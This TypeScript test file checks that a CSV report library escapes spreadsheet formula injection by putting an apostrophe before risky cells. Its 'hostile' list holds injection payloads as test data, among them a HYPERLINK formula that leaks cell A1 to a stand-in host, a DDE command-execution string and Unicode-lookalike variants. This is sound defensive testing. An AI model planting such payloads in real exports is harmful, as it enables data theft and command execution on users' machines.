import { Fold, AttributionReport, ReportCsv, SessionCsv } from "@effect-elnudge/report"
import * as Formula from "@effect-elnudge/report/Formula"
import { describe, expect, it } from "@effect/vitest"
import * as Schema from "effect/Schema"
import * as SessionArbitrary from "./SessionArbitrary.ts"
import * as SessionFixture from "./SessionFixture.ts"

// The forms that are known from attacks, and what spreadsheets overlook before them.
const hostile: ReadonlyArray<string> = [
  "=1+1",
  '=HYPERLINK("https://evil.invalid/?"&A1,"click")',
  "=cmd|'/C calc'!A0",
  "+1+1",
  "-1+1",
  "-1",
  "@SUM(A1)",
  "\t=1+1",
  "\tplain",
  "\r=1+1",
  "\rplain",
  "\n=1+1",
  " =1+1",
  "   @SUM(A1)",
  "\u{a0}=1+1",
  "\u{3000}=1+1",
  "\u{feff}=1+1",
  "\u{feff} +1",
  "\u{200b}=1+1",
  "\0=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(A1)",
  "﹦1+1",
  "﹢1",
  "﹣1",
  "﹫SUM(A1)",
  " ＝1+1",
]

const harmless: ReadonlyArray<string> = [
  "",
  " ",
  "exit_modal",
  "a=b",
  "1-2",
  "'=1+1",
  "(all)",
  "2026-10-01",
  "−1",
  "–",
  "[]",
  '"=1+1"',
  "\ud800",
]

/** The first cell of the second line, read back as RFC 4180 says. */
const firstCell = (csv: string): string => {
  const [, quoted, plain] = /^"((?:[^"]|"")*)"|^([^,\n]*)/.exec(csv.slice(csv.indexOf("\n") + 1)) ?? []
  return quoted?.replaceAll('""', '"') ?? plain ?? ""
}

describe("ReportCsv.make with escapeFormulas", () => {
  const csvOf = (name: string, options?: Formula.Options) =>
    ReportCsv.make(["name", "value"], [{ name, value: -1 }], options)

  it.each(hostile)("puts an apostrophe before %j", (name) => {
    expect(firstCell(csvOf(name, { escapeFormulas: true }))).toBe(`'${name}`)
  })

  it.each(hostile)("leaves %j as it came where it is not asked for", (name) => {
    expect(firstCell(csvOf(name))).toBe(name)
    expect(csvOf(name, { escapeFormulas: false })).toBe(csvOf(name))
  })

  it.each(harmless)("leaves %j as it is", (name) => {
    expect(csvOf(name, { escapeFormulas: true })).toBe(csvOf(name))
  })

  it.each([-1, -0.5, -1e-7, 1, 0, null])("leaves the number %s a number", (value) => {
    const csv = ReportCsv.make(["value"], [{ value }], { escapeFormulas: true })
    expect(csv).toBe(ReportCsv.make(["value"], [{ value }]))
    expect(csv).not.toContain("'")
  })

  it("quotes after it has put the apostrophe, so that the cell reads back", () => {
    expect(csvOf('=1,"a"', { escapeFormulas: true })).toBe(`name,value\n"'=1,""a""",-1\n`)
  })

  it.prop("adds one apostrophe or nothing to any text", [Schema.String], ([name]) => {
    expect([name, `'${name}`]).toContain(firstCell(csvOf(name, { escapeFormulas: true })))
  })

  it.prop("changes no report but in its names", [SessionArbitrary.reads], ([reads]) => {
    const report = AttributionReport.make()
    const rows = Fold.run(report, reads)
    const escaped = rows.map((row) => ({ ...row, nudge_type: Formula.escape(row.nudge_type) }))
    expect(ReportCsv.make(report.columns, rows, { escapeFormulas: true })).toBe(ReportCsv.make(report.columns, escaped))
  })
})

describe("SessionCsv.rows with escapeFormulas", () => {
  const of = (id: string) =>
    SessionFixture.read(
      SessionFixture.detail({
        id,
        intent_score: -3,
        events: [{ type: "=1+1", url: "@evil", occurred_at: "2026-10-01T10:00:00Z" }],
      }),
    )
  const lineOf = (id: string, details: boolean, options?: Formula.Options) =>
    `${SessionCsv.header(details)}${SessionCsv.rows([of(id)], details, options)}`

  it.each(hostile)("puts an apostrophe before the id %j", (id) => {
    expect(firstCell(lineOf(id, false, { escapeFormulas: true }))).toBe(`'${id}`)
    expect(firstCell(lineOf(id, true, { escapeFormulas: true }))).toBe(`'${id}`)
    expect(firstCell(lineOf(id, true))).toBe(id)
  })

  it("leaves scores numbers, and events the JSON that they are", () => {
    expect(lineOf("sess_1", true, { escapeFormulas: true })).toBe(lineOf("sess_1", true))
    expect(lineOf("sess_1", true)).toContain(",-3,")
  })
})
